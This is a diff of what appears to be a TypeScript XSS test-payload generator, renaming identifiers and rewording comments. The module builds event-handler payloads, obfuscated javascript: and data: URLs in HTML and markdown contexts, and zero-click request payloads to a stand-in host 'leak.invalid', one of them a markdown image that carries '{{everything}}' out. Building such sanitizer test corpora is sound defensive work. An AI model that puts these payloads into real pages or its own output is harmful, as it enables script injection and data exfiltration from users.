@@ -1,6 +1,6 @@
 /*
- * Whole classes of payloads, made by combining what filters have been known to stumble over: tags, handlers, ways to
- * write a call, to part attributes, to hide a scheme, to break out of a place, and to ask a foreign host for something.
+ * Classes of payloads that combine known weaknesses of filters: tags, event handlers, spellings of calls, attribute
+ * separators, obfuscated schemes, context breakouts and third-party requests.
  */
 
 const calls = [
@@ -14,7 +14,7 @@ const calls = [
   "throw onerror=alert,1",
 ];
 
-const handled: readonly (readonly [tag: string, handler: string])[] = [
+const handlerTags: readonly (readonly [tag: string, handler: string])[] = [
   ["img src=x", "onerror"],
   ["image src=x", "onerror"],
   ["video src=x", "onerror"],
@@ -52,7 +52,7 @@ const quoted = [
   (value: string) => ` = "${value}"`,
 ];
 
-const handlers = handled.flatMap(([tag, handler], row) =>
+const handlers = handlerTags.flatMap(([tag, handler], row) =>
   calls.map((call, column) => {
     const separator = separators[(row + column) % separators.length] ?? " ";
     const quote = quoted[(row * 3 + column) % quoted.length] ?? String;
@@ -120,7 +120,7 @@ const spellings: readonly ((scheme: string) => string)[] = [
   (scheme) => `https:${scheme}`,
 ];
 
-const addresses = [
+const urls = [
   "javascript:",
   "vbscript:",
   "data:text/html,<script>",
@@ -130,27 +130,27 @@ const addresses = [
   "view-source:javascript:",
 ].flatMap((scheme) => spellings.map((spell) => `${spell(scheme)}alert(1)`));
 
-const places = [
-  (address: string) => `<a href="${address}">x</a>`,
-  (address: string) => `<a href=${address}>x</a>`,
-  (address: string) => `[x](${address})`,
-  (address: string) => `[x](<${address}> "t")`,
-  (address: string) => `![x](${address})`,
-  (address: string) => `<${address}>`,
-  (address: string) => `[x]: ${address}\n\n[x]`,
-  (address: string) => `<form action="${address}"><button>x`,
-  (address: string) => `<iframe src="${address}">`,
-  (address: string) => `<svg><a href="${address}"><text>x`,
-  (address: string) => `<object data="${address}">`,
+const contexts = [
+  (url: string) => `<a href="${url}">x</a>`,
+  (url: string) => `<a href=${url}>x</a>`,
+  (url: string) => `[x](${url})`,
+  (url: string) => `[x](<${url}> "t")`,
+  (url: string) => `![x](${url})`,
+  (url: string) => `<${url}>`,
+  (url: string) => `[x]: ${url}\n\n[x]`,
+  (url: string) => `<form action="${url}"><button>x`,
+  (url: string) => `<iframe src="${url}">`,
+  (url: string) => `<svg><a href="${url}"><text>x`,
+  (url: string) => `<object data="${url}">`,
 ];
 
-const placed = addresses.map((address, index) => (places[index % places.length] ?? String)(address));
+const urlsInContext = urls.map((url, index) => (contexts[index % contexts.length] ?? String)(url));
 
-/** Each would ask a foreign host for something, without a click. */
+/** Each would make a third-party request without a click. */
 const leak = "https://leak.invalid/x";
-/** In two parts, so that no reader of imports takes it for one. */
+/** Split, so that no tool takes it for an import. */
 const sheetImport = ["@", "import"].join("");
-const leaks = [
+const requests = [
   `<img src="${leak}">`,
   `<img srcset="${leak} 2x">`,
   `<picture><source srcset="${leak}"><img></picture>`,
@@ -220,7 +220,7 @@ const leaks = [
   `![](${leak}?said={{everything}})`,
 ];
 
-/** Text that breaks what handles text: lone surrogates, controls, directions, endless marks, other languages' traps. */
+/** Text that breaks text processing: lone surrogates, control characters, bidirectional overrides, long runs, injections. */
 const naughty = [
   "\ud800",
   "\udfff\ud800",
@@ -285,11 +285,11 @@ const naughty = [
   "a\n-\n".repeat(50),
 ];
 
-export const classes: Readonly<Record<string, readonly string[]>> = {
+export const payloadClasses: Readonly<Record<string, readonly string[]>> = {
   handlers,
   breakouts,
-  addresses,
-  placed,
-  leaks,
+  urls,
+  urlsInContext,
+  requests,
   naughty,
 };
